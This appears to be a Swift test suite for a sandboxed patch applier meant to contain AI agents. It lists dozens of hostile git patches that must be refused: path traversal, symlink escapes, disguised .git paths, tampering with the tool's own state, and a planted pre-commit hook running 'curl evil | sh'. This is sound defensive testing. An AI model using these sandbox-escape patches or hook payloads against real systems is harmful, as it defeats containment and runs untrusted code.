import Foundation
import Testing
#if canImport(Glibc)
import Glibc
#elseif canImport(Darwin)
import Darwin
#endif
@testable import AirlockCore

/// A patch an agent might send to escape the airlock, and a fragment of the message that
/// must refuse it. `@OUTSIDE@` in the text stands for the absolute path of the sandbox's
/// `outside/` directory.
struct HostilePatch: Sendable, CustomTestStringConvertible {
    enum Input: Sendable {
        case text(String)
        /// Built in code: shapes the git parser refuses can still reach the applier from
        /// other parsers.
        case built(Patch)
    }

    var name: String
    var input: Input
    var fragment: String
    var options = ApplyOptions()

    var testDescription: String { name }

    init(_ name: String, _ text: String, _ fragment: String, options: ApplyOptions = ApplyOptions()) {
        self.name = name
        input = .text(text)
        self.fragment = fragment
        self.options = options
    }

    init(_ name: String, built patch: Patch, _ fragment: String) {
        self.name = name
        input = .built(patch)
        self.fragment = fragment
    }
}

@Suite("Hostile patches")
struct HostilePatchTests {
    /// The workspace every hostile patch is tried on: ordinary files, a fake `.git`, a
    /// directory symlink and a file symlink pointing outside, and a fifo; next to it,
    /// `outside/secret.txt`.
    private func makeSandbox() throws -> Sandbox {
        let sandbox = try Sandbox()
        sandbox.write("README.md", "readme\n")
        sandbox.write("src/a.c", "int a;\nint b;\nint c;\n")
        sandbox.write("script.sh", "echo hi\n", permissions: 0o755)
        sandbox.write("sub/dir/file.txt", "file\n")
        sandbox.write(".git/config", "[core]\n")
        sandbox.write(sandbox.outside + "/secret.txt", "secret\n")
        sandbox.symlink("escape", to: sandbox.outside)
        sandbox.symlink("linked-file", to: "../outside/secret.txt")
        mkfifo(sandbox.absolute("pipe"), 0o644)
        return sandbox
    }

    @Test("is refused with a clear message and changes no byte inside or outside the workspace", arguments: HostilePatchTests.corpus)
    func refused(_ hostile: HostilePatch) throws {
        let sandbox = try makeSandbox()
        let patch: Patch
        switch hostile.input {
        case .text(let text):
            patch = try parsePatch(text.replacingOccurrences(of: "@OUTSIDE@", with: sandbox.outside))
        case .built(let built):
            patch = built
        }
        let applier = sandbox.applier(hostile.options)
        let before = sandbox.snapshot()
        for (label, run) in [("check", { try applier.check(patch) }), ("apply", { try applier.apply(patch) })] as [(String, () throws -> ApplyReport)] {
            do {
                _ = try run()
                Issue.record("\(label) accepted the patch")
            } catch let refusal as ApplyRefusal {
                let messages = refusal.problems.map(\.message)
                #expect(messages.contains { $0.contains(hostile.fragment) }, "\(label): \(messages)")
                for message in messages {
                    #expect(!message.unicodeScalars.contains { $0.value < 0x20 || $0.value == 0x7F }, "raw control character in \(message.debugDescription)")
                }
            } catch {
                Issue.record("\(label) failed instead of refusing: \(error)")
            }
            let difference = Sandbox.difference(before, sandbox.snapshot())
            #expect(difference.isEmpty, "\(label) changed:\n\(difference)")
        }
    }

    @Test("the corpus is large enough and every name is unique")
    func corpusSize() {
        #expect(Self.corpus.count >= 40)
        #expect(Set(Self.corpus.map(\.name)).count == Self.corpus.count)
    }

    // MARK: - the corpus

    static let corpus: [HostilePatch] = traversal + gitDirectory + airlockState + symlinks + modes + content + conflicts + names + shapes

    static let traversal: [HostilePatch] = [
        HostilePatch("modify through ..", """
            diff --git a/../outside/secret.txt b/../outside/secret.txt
            --- a/../outside/secret.txt
            +++ b/../outside/secret.txt
            @@ -1 +1 @@
            -secret
            +pwned

            """, "`..` component"),
        HostilePatch("create via a/../../x", """
            --- /dev/null
            +++ b/src/../../outside/new.txt
            @@ -0,0 +1 @@
            +pwned

            """, "`..` component"),
        HostilePatch("rename to ..", """
            diff --git a/src/a.c b/../outside/a.c
            similarity index 100%
            rename from src/a.c
            rename to ../outside/a.c

            """, "`..` component"),
        HostilePatch("copy to ..", """
            diff --git a/src/a.c b/../outside/a.c
            similarity index 100%
            copy from src/a.c
            copy to ../outside/a.c

            """, "`..` component"),
        HostilePatch("rename to an absolute path", """
            diff --git a/src/a.c b/src/a.c
            similarity index 100%
            rename from src/a.c
            rename to @OUTSIDE@/a.c

            """, "absolute path"),
        HostilePatch("copy to an absolute path", """
            diff --git a/README.md b/README.md
            similarity index 100%
            copy from README.md
            copy to @OUTSIDE@/copied.md

            """, "absolute path"),
        HostilePatch("rename to a drive letter", """
            diff --git a/src/a.c b/src/a.c
            similarity index 100%
            rename from src/a.c
            rename to C:/Windows/a.c

            """, "drive-letter"),
        HostilePatch("copy to a UNC path", """
            diff --git a/src/a.c b/src/a.c
            similarity index 100%
            copy from src/a.c
            copy to //server/share/a.c

            """, "UNC"),
    ]

    static let gitDirectory: [HostilePatch] = [
        HostilePatch(".git/config", """
            diff --git a/.git/config b/.git/config
            --- a/.git/config
            +++ b/.git/config
            @@ -1 +1,2 @@
             [core]
            +\thooksPath = /tmp/evil

            """, "git's own directory `.git`"),
        HostilePatch(".GIT/hooks in upper case", """
            diff --git a/.GIT/hooks/pre-commit b/.GIT/hooks/pre-commit
            new file mode 100755
            --- /dev/null
            +++ b/.GIT/hooks/pre-commit
            @@ -0,0 +1 @@
            +curl evil | sh

            """, "git's own directory `.git`"),
        HostilePatch("nested .git", """
            --- /dev/null
            +++ b/sub/.git/hooks/post-checkout
            @@ -0,0 +1 @@
            +x

            """, "git's own directory `.git`"),
        HostilePatch("NTFS short name git~1", """
            --- /dev/null
            +++ b/git~1/config
            @@ -0,0 +1 @@
            +x

            """, "8.3 short name of `.git`"),
        HostilePatch("NTFS trailing dot .git.", """
            --- /dev/null
            +++ b/.git./config
            @@ -0,0 +1 @@
            +x

            """, "NTFS"),
        HostilePatch("NTFS trailing space .git ", """
            diff --git a/README.md b/README.md
            similarity index 100%
            copy from README.md
            copy to .git /config

            """, "NTFS"),
        HostilePatch("NTFS stream .git::$INDEX_ALLOCATION", """
            --- /dev/null
            +++ b/.git::$INDEX_ALLOCATION/config
            @@ -0,0 +1 @@
            +x

            """, "NTFS"),
        HostilePatch("HFS+ .git with U+200C", #"""
            --- /dev/null
            +++ "b/.g\342\200\214it/config"
            @@ -0,0 +1 @@
            +x

            """#, "HFS+"),
        HostilePatch("HFS+ .git with U+FEFF", #"""
            --- /dev/null
            +++ "b/\357\273\277.git/hooks/pre-commit"
            @@ -0,0 +1 @@
            +x

            """#, "HFS+"),
        HostilePatch("copy onto a git hook", """
            diff --git a/script.sh b/script.sh
            similarity index 100%
            copy from script.sh
            copy to .git/hooks/pre-commit

            """, "`.git`"),
    ]

    static let airlockState: [HostilePatch] = [
        HostilePatch(".airlock/config.toml", """
            --- /dev/null
            +++ b/.airlock/config.toml
            @@ -0,0 +1 @@
            +reviewers = ["agent"]

            """, "Airlock's own state"),
        HostilePatch(".airlock-journal", """
            --- /dev/null
            +++ b/.airlock-journal/transaction.json
            @@ -0,0 +1 @@
            +{}

            """, "Airlock's own state"),
        HostilePatch("rename into .airlock", """
            diff --git a/src/a.c b/src/a.c
            similarity index 100%
            rename from src/a.c
            rename to .Airlock/store.sqlite

            """, "Airlock's own state"),
        HostilePatch("a staged file's name", """
            --- /dev/null
            +++ b/src/.airlock-stage-0000000000000000-1
            @@ -0,0 +1 @@
            +x

            """, "reserved for Airlock's staged files"),
    ]

    static let symlinks: [HostilePatch] = [
        HostilePatch("create under a symlinked directory", """
            --- /dev/null
            +++ b/escape/pwned.txt
            @@ -0,0 +1 @@
            +pwned

            """, "`escape` on the way is a symlink"),
        HostilePatch("modify under a symlinked directory", """
            --- a/escape/secret.txt
            +++ b/escape/secret.txt
            @@ -1 +1 @@
            -secret
            +pwned

            """, "`escape` on the way is a symlink"),
        HostilePatch("modify a symlinked file", """
            diff --git a/linked-file b/linked-file
            --- a/linked-file
            +++ b/linked-file
            @@ -1 +1 @@
            -secret
            +pwned

            """, "never writes through a symlink"),
        HostilePatch("delete a symlinked file as a regular file", """
            diff --git a/linked-file b/linked-file
            deleted file mode 100644
            --- a/linked-file
            +++ /dev/null
            @@ -1 +0,0 @@
            -secret

            """, "it is a symlink"),
        HostilePatch("rename a symlink's target in", """
            diff --git a/linked-file b/stolen.txt
            similarity index 100%
            rename from linked-file
            rename to stolen.txt

            """, "never reads through a symlink"),
        HostilePatch("copy a symlink's target in", """
            diff --git a/linked-file b/stolen.txt
            similarity index 100%
            copy from linked-file
            copy to stolen.txt

            """, "never reads through a symlink"),
        HostilePatch("create a symlink, then write through it", """
            diff --git a/sneaky b/sneaky
            new file mode 120000
            --- /dev/null
            +++ b/sneaky
            @@ -0,0 +1 @@
            +@OUTSIDE@
            \\ No newline at end of file
            diff --git a/sneaky/pwned.txt b/sneaky/pwned.txt
            new file mode 100644
            --- /dev/null
            +++ b/sneaky/pwned.txt
            @@ -0,0 +1 @@
            +pwned

            """, "mode 120000 (symlink) is refused"),
        HostilePatch("create a symlink, then write through it, symlinks allowed", """
            diff --git a/sneaky b/sneaky
            new file mode 120000
            --- /dev/null
            +++ b/sneaky
            @@ -0,0 +1 @@
            +@OUTSIDE@
            \\ No newline at end of file
            diff --git a/sneaky/pwned.txt b/sneaky/pwned.txt
            new file mode 100644
            --- /dev/null
            +++ b/sneaky/pwned.txt
            @@ -0,0 +1 @@
            +pwned

            """, "is a symlink created by this patch", options: ApplyOptions(allowSymlinks: true)),
        HostilePatch(".gitmodules as a symlink, symlinks allowed", """
            diff --git a/.gitmodules b/.gitmodules
            new file mode 120000
            --- /dev/null
            +++ b/.gitmodules
            @@ -0,0 +1 @@
            +@OUTSIDE@/secret.txt
            \\ No newline at end of file

            """, "`.gitmodules` may not be a symlink", options: ApplyOptions(allowSymlinks: true)),
        HostilePatch("turn a regular file into a symlink in one entry, symlinks allowed", """
            diff --git a/README.md b/README.md
            old mode 100644
            new mode 120000
            --- a/README.md
            +++ b/README.md
            @@ -1 +1 @@
            -readme
            +@OUTSIDE@/secret.txt
            \\ No newline at end of file

            """, "changes a regular file into a symlink", options: ApplyOptions(allowSymlinks: true)),
        HostilePatch("treat a regular file as a symlink, symlinks allowed", """
            diff --git a/README.md b/README.md
            index 1111111..2222222 120000
            --- a/README.md
            +++ b/README.md
            @@ -1 +1 @@
            -readme
            +@OUTSIDE@
            \\ No newline at end of file

            """, "the patch says it is a symlink (mode 120000) but it is a regular file", options: ApplyOptions(allowSymlinks: true)),
    ]

    static let modes: [HostilePatch] = [
        HostilePatch("symlink mode 120000", """
            diff --git a/README.md b/README.md
            index 1111111..2222222 120000
            --- a/README.md
            +++ b/README.md
            @@ -1 +1 @@
            -readme
            +/etc/passwd

            """, "mode 120000 (symlink) is refused"),
        HostilePatch("gitlink mode 160000", """
            diff --git a/vendor/lib b/vendor/lib
            new file mode 160000
            index 0000000..1111111
            --- /dev/null
            +++ b/vendor/lib
            @@ -0,0 +1 @@
            +Subproject commit 1111111111111111111111111111111111111111

            """, "mode 160000 (gitlink, a submodule commit) is refused"),
        HostilePatch("mode 100777", """
            diff --git a/tool b/tool
            new file mode 100777
            --- /dev/null
            +++ b/tool
            @@ -0,0 +1 @@
            +x

            """, "mode 100777 is not allowed"),
        HostilePatch("mode change to 100664", """
            diff --git a/README.md b/README.md
            old mode 100644
            new mode 100664

            """, "mode 100664 is not allowed"),
        HostilePatch("old mode that the file does not have", """
            diff --git a/README.md b/README.md
            old mode 100755
            new mode 100644

            """, "its mode is 100755 but the file is not executable"),
    ]

    static let content: [HostilePatch] = [
        HostilePatch("create over an existing file", """
            diff --git a/README.md b/README.md
            new file mode 100644
            --- /dev/null
            +++ b/README.md
            @@ -0,0 +1 @@
            +replaced

            """, "cannot create `README.md`: it already exists"),
        HostilePatch("delete a file whose content differs", """
            diff --git a/README.md b/README.md
            deleted file mode 100644
            index e69de29..0000000

            """, "its content differs from what the patch deletes"),
        HostilePatch("delete with a hunk that does not match", """
            diff --git a/README.md b/README.md
            deleted file mode 100644
            --- a/README.md
            +++ /dev/null
            @@ -1 +0,0 @@
            -something else

            """, "does not match"),
        HostilePatch("delete only part of a file", """
            diff --git a/src/a.c b/src/a.c
            deleted file mode 100644
            --- a/src/a.c
            +++ /dev/null
            @@ -1,2 +0,0 @@
            -int a;
            -int b;

            """, "must match the whole file"),
        HostilePatch("context mismatch", """
            diff --git a/src/a.c b/src/a.c
            --- a/src/a.c
            +++ b/src/a.c
            @@ -1,3 +1,3 @@
             int a;
            -int B;
            +int x;
             int c;

            """, "hunk 1 (@@ -1,3 +1,3 @@) of `src/a.c` does not match: expected line 2 `int B;`, found `int b;`"),
        HostilePatch("git binary patch", """
            diff --git a/logo.png b/logo.png
            new file mode 100644
            index 0000000..1111111
            GIT binary patch
            literal 5
            McmZ?wbhEHb0

            literal 0
            HcmV?d00001


            """, "binary patch cannot be verified"),
        HostilePatch("binary files differ", """
            diff --git a/README.md b/README.md
            index 1111111..2222222 100644
            Binary files a/README.md and b/README.md differ

            """, "binary patch cannot be verified"),
        HostilePatch("new file over the size limit", """
            --- /dev/null
            +++ b/big.txt
            @@ -0,0 +1 @@
            +0123456789012345678901234567890123456789

            """, "over the limit of 16 bytes per file", options: ApplyOptions(maxFileBytes: 16)),
        HostilePatch("existing file over the size limit", """
            --- a/README.md
            +++ b/README.md
            @@ -1 +1 @@
            -readme
            +x

            """, "it is 7 bytes, over the limit of 4 bytes per file", options: ApplyOptions(maxFileBytes: 4)),
        HostilePatch("modify a directory", """
            diff --git a/sub b/sub
            --- a/sub
            +++ b/sub
            @@ -1 +1 @@
            -x
            +y

            """, "cannot modify `sub`: it is a directory"),
        HostilePatch("create over a directory with files", """
            --- /dev/null
            +++ b/sub/dir
            @@ -0,0 +1 @@
            +x

            """, "it is a directory holding 1 entry this patch does not delete"),
        HostilePatch("write into a fifo", """
            --- a/pipe
            +++ b/pipe
            @@ -1 +1 @@
            -x
            +y

            """, "it is a fifo, not a regular file"),
        HostilePatch("create under a file", """
            --- /dev/null
            +++ b/README.md/x
            @@ -0,0 +1 @@
            +x

            """, "`README.md` on the way is a file, not a directory"),
        HostilePatch("rename a missing file", """
            diff --git a/missing.c b/found.c
            similarity index 100%
            rename from missing.c
            rename to found.c

            """, "cannot rename `missing.c`: no such file"),
    ]

    static let conflicts: [HostilePatch] = [
        HostilePatch("two entries create one path", """
            --- /dev/null
            +++ b/twice.txt
            @@ -0,0 +1 @@
            +one
            --- /dev/null
            +++ b/twice.txt
            @@ -0,0 +1 @@
            +two

            """, "a patch may touch each path only once"),
        HostilePatch("rename into a path another entry creates", """
            --- /dev/null
            +++ b/x.txt
            @@ -0,0 +1 @@
            +one
            diff --git a/README.md b/x.txt
            similarity index 100%
            rename from README.md
            rename to x.txt

            """, "a patch may touch each path only once"),
        HostilePatch("modify after renaming away", """
            diff --git a/src/a.c b/moved.c
            similarity index 100%
            rename from src/a.c
            rename to moved.c
            diff --git a/src/a.c b/src/a.c
            --- a/src/a.c
            +++ b/src/a.c
            @@ -1,3 +1,3 @@
             int a;
            -int b;
            +int x;
             int c;

            """, "is modified by entry 2 (modify `src/a.c`) but removed by entry 1 (rename `src/a.c` → `moved.c`)"),
        HostilePatch("delete twice", """
            diff --git a/README.md b/README.md
            deleted file mode 100644
            --- a/README.md
            +++ /dev/null
            @@ -1 +0,0 @@
            -readme
            diff --git a/README.md b/README.md
            deleted file mode 100644
            --- a/README.md
            +++ /dev/null
            @@ -1 +0,0 @@
            -readme

            """, "is removed by entry 1 (delete `README.md`) and again by entry 2"),
        HostilePatch("rename onto an existing file", """
            diff --git a/README.md b/src/a.c
            similarity index 100%
            rename from README.md
            rename to src/a.c

            """, "cannot rename `README.md` onto `src/a.c`: it already exists"),
        HostilePatch("write inside a path another entry writes as a file", """
            --- /dev/null
            +++ b/n
            @@ -0,0 +1 @@
            +file
            --- /dev/null
            +++ b/n/x
            @@ -0,0 +1 @@
            +inside

            """, "which entry 1 (create `n`) writes as a file"),
    ]

    static let names: [HostilePatch] = [
        HostilePatch("NUL in a name", #"""
            --- /dev/null
            +++ "b/x\000y"
            @@ -0,0 +1 @@
            +x

            """#, "contains a NUL byte"),
        HostilePatch("newline in a name", #"""
            --- /dev/null
            +++ "b/x\ny"
            @@ -0,0 +1 @@
            +x

            """#, "contains a newline"),
        HostilePatch("backslash in a name", #"""
            --- /dev/null
            +++ "b/x\\..\\y"
            @@ -0,0 +1 @@
            +x

            """#, "contains a backslash"),
        HostilePatch("escape sequence in a name", #"""
            --- /dev/null
            +++ "b/x\033]0;owned\007y"
            @@ -0,0 +1 @@
            +x

            """#, "contains a control character"),
        HostilePatch("overlong name", """
            --- /dev/null
            +++ b/\(String(repeating: "n", count: 300))
            @@ -0,0 +1 @@
            +x

            """, "longer than a file name may be"),
    ]

    static let shapes: [HostilePatch] = [
        HostilePatch("hunk header that lies about its counts", built: Patch(files: [
            FilePatch(operation: .modify, oldPath: "README.md", newPath: "README.md", hunks: [
                Hunk(oldStart: 1, oldCount: 5, newStart: 1, newCount: 1, lines: [HunkLine(.removed, "readme\n"), HunkLine(.added, "x\n")]),
            ]),
        ]), "header says 5 old and 1 new lines, body has 1 and 1"),
        HostilePatch("hunk line with an embedded newline", built: Patch(files: [
            FilePatch(operation: .modify, oldPath: "README.md", newPath: "README.md", hunks: [
                Hunk(oldStart: 1, oldCount: 1, newStart: 1, newCount: 1, lines: [HunkLine(.removed, "readme\n"), HunkLine(.added, "x\nevil\n")]),
            ]),
        ]), "embedded newline"),
        HostilePatch("modify entry with two paths", built: Patch(files: [
            FilePatch(operation: .modify, oldPath: "README.md", newPath: "@OUTSIDE@", hunks: [
                Hunk(oldStart: 1, oldCount: 1, newStart: 1, newCount: 1, lines: [HunkLine(.removed, "readme\n"), HunkLine(.added, "x\n")]),
            ]),
        ]), "modify entry names two paths"),
        HostilePatch("created file with old lines", built: Patch(files: [
            FilePatch(operation: .create, oldPath: nil, newPath: "new.txt", newMode: .regular, hunks: [
                Hunk(oldStart: 1, oldCount: 1, newStart: 1, newCount: 1, lines: [HunkLine(.removed, "readme\n"), HunkLine(.added, "x\n")]),
            ]),
        ]), "a created file's hunks may not expect old lines"),
        HostilePatch("hunk that changes nothing", """
            --- a/README.md
            +++ b/README.md
            @@ -1 +1 @@
             readme

            """, "has no added or removed lines"),
    ]
}
